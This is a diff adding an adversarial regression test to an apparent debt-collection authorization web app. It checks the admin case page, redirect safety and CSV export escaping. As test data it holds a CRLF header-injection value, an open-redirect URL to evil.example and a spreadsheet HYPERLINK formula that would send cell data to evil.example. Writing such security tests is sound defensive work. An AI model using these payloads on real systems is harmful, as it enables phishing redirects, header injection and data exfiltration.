@@ -527,3 +527,56 @@ async def test_an_import_form_that_cannot_be_read_is_400_not_500(world: tuple[Te
             headers={"Content-Type": "multipart/form-data; boundary=b", "X-CSRF-Token": token},
         )
         assert r.status == 400, (payload, r.status, await r.text())
+
+
+async def test_what_a_second_adversarial_probe_found_in_the_pages(world: tuple[TestClient, Keys]) -> None:  # type: ignore[type-arg]
+    client, keys = world
+    # A case whose denials carry no `lifts_at` (an unknown number, another agency asking): its
+    # page answered 500, exactly for the blocked contacts an admin opens it to understand.
+    for who, to in ((keys.dialer, "+12125550199"), (keys.dialer2, DEBTOR_NUMBER)):
+        r = await client.post(
+            "/v1/authorize", json={"case_id": "c1", "to": to, "channel": "call"}, headers=hdr(who)
+        )
+        assert (await r.json())["allowed"] is False
+    token = await sign_in(client, keys.admin)
+    r = await client.get("/console/admin/cases/c1")
+    assert r.status == 200
+    page = await r.text()
+    assert "unknown_number" in page
+    assert "case_not_assigned" in page
+    # A sign-in link whose `next` carries a CR LF or NUL lands on the console, not on a dropped answer.
+    for bad in ("/console/\r\nX-Evil: 1", "/console\x00"):
+        client.session.cookie_jar.clear()
+        form_token = await csrf_of(client, "/console/sign-in")
+        r = await client.post(
+            "/console/sign-in",
+            data={"key": keys.security, "csrf": form_token, "next": bad},
+            allow_redirects=False,
+        )
+        assert r.status in (302, 303), r.status
+        assert r.headers["Location"].startswith("/console")
+        assert "X-Evil" not in r.headers["Location"]
+    token = await sign_in(client, keys.security)
+    r = await client.post(
+        "/console/security/verify",
+        data={"csrf": token, "next": "https://evil.example/phish"},
+        allow_redirects=False,
+    )
+    assert r.status == 303
+    assert r.headers["Location"].startswith("/console/")
+    for before in ("99999999999999999999", "²"):
+        r = await client.get("/console/security/access-log", params={"before": before})
+        assert r.status == 400, before
+    # A reason must be what the API takes (printable, 3..500 characters), and a spreadsheet
+    # formula given as one is exported as text.
+    rid = await upload_recording(client, keys, AUDIO)
+    for reason in ("x", "\x1b[2J\x07"):
+        r = await client.get(f"/console/recordings/{rid}/transcript", params={"reason": reason})
+        assert r.status == 400, reason
+    formula = '=HYPERLINK("http://evil.example/?x="&B2,"Open")'
+    r = await client.post(f"/console/recordings/{rid}", data={"csrf": token, "reason": formula})
+    assert r.status == 200
+    exported = await (await client.get("/console/security/access-log.csv")).text()
+    assert "'" + formula.replace('"', '""') in exported
+    assert '\r\n"=HYPERLINK' not in exported
+    assert ",=HYPERLINK" not in exported
